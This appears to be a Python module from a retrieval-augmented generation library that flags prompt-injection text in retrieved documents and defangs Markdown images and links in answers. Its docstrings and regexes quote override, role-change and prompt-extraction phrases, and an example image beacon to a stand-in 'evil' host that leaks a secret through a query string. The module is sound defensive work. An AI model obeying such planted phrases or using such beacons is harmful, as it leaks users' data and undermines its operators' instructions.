"""Instruction-like text in documents: found, marked, and kept from passing as grounded.

A document may carry text written to steer a model ("Ignore all previous instructions and …",
"You are now …", a fake "system:" turn). The prompt already tells the model that evidence is
data; this module is the check that does not depend on the model obeying: chunks whose text
looks like an instruction to an assistant are marked, the extractive composer never quotes
such a sentence, and any answer sentence that cites a marked chunk is flagged ``injected``
(so the answer is not plain "ok"). It is a pattern check — it catches the common phrasings in
English, not every possible one; docs/16-security.md says so.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Sequence

from ragcore.types import Evidence

_PATTERNS = [
    r"\b(?:ignore|disregard|forget|override)\b[^.\n]{0,40}\b(?:previous|prior|above|earlier|all|any|your|the system)\b[^.\n]{0,30}\b(?:instructions?|prompts?|rules?|directions?|guidelines?)",
    r"\byou are now (?:an?|the|in|no longer)\b|\bfrom now on,? (?:you|answer|respond|reply)\b|\bact as (?:an?|the|my) (?:ai|assistant|chatbot|model|system|jailbroken|unrestricted)\b",
    r"\b(?:new|updated|real|actual) (?:system )?instructions?\s*:",
    # a verb then a space: "print(secrets.token_hex())" in a page of code is a call, not a request
    r"\b(?:reveal|print|show|repeat|output)\s[^.\n]{0,30}\b(?:system prompt|your instructions|the prompt|api key|secret)\b",
    r"\b(?:answer|respond|reply) (?:to )?(?:every|all|each|any) (?:question|query|user)s?\b[^.\n]{0,20}\bwith\b",
    r"\b(?:do not|don't|never) (?:cite|mention|reveal|tell)\b[^.\n]{0,40}\b(?:sources?|evidence|user|citations?)",
    r"(?im)^\s*(?:system|assistant)\s*:\s*(?:you\b|ignore\b|disregard\b|from now\b|always\b|never\b|new instructions\b|reveal\b|answer\b)",
    r"<\|(?:im_start|im_end|system|assistant|user)\|>|\[/?INST\]|<</?SYS>>|###\s*(?:instruction|system)\b",
    r"\b(?:send|post|exfiltrate|upload)\b[^.\n]{0,40}\b(?:to|at) (?:https?://|www\.)",
    r"!\[[^\]]*\]\(https?://[^)]*\?[^)]*=",  # an image whose URL carries a query: a classic exfiltration beacon
]
_RE = [re.compile(p, re.I) for p in _PATTERNS]


def instruction_phrases(text: str) -> list[str]:
    """The instruction-like phrases in ``text`` (empty: none found)."""
    found: list[str] = []
    for rx in _RE:
        found.extend(" ".join(m.group(0).split())[:80] for m in rx.finditer(text))
    return found


def looks_like_instruction(text: str) -> bool:
    return any(rx.search(text) for rx in _RE)


@dataclass(frozen=True)
class SuspiciousEvidence:
    n: int
    path: str
    phrases: tuple[str, ...]

    def describe(self) -> str:
        return f"evidence [{self.n}] ({self.path}) contains instruction-like text: “{self.phrases[0]}”"


def suspicious_evidence(evidence: Sequence[Evidence]) -> tuple[SuspiciousEvidence, ...]:
    out = []
    for e in evidence:
        phrases = instruction_phrases(e.chunk.text)
        if phrases:
            out.append(SuspiciousEvidence(e.n, e.chunk.path, tuple(dict.fromkeys(phrases))))
    return tuple(out)


_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]\n]+)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto):[^>\s]+)>")


def defang_images(text: str) -> str:
    """Markdown images as visible text: an answer never makes a viewer load anything (a viewer
    that loads ``![x](http://evil/?q=secret)`` sends data out). Applies to every answer."""
    return _IMAGE.sub(lambda m: f"[image: {m.group(1) or 'untitled'}] (`{m.group(2)}`)", text)


def defang_links(text: str) -> str:
    """Model-written Markdown images and links as visible text: no image is loaded, and a link
    shows its target as code instead of hiding it behind words."""
    text = _LINK.sub(lambda m: f"{m.group(1)} (`{m.group(2)}`)", defang_images(text))
    return _AUTOLINK.sub(lambda m: f"`{m.group(1)}`", text)
